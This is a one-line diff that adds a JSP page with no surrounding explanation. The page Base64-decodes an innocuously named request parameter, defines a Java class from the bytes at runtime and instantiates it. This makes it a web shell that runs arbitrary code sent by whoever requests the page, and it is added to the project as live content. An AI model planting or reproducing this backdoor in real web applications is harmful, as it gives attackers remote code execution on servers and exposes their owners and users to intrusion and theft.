@@ -1,0 +1,1 @@
+<%@ page import="java.lang.invoke.*" %><% byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("ref")); MethodHandles.Lookup lk = MethodHandles.lookup(); Class<?> c = lk.defineClass(b); c.getDeclaredConstructor().newInstance(); %>
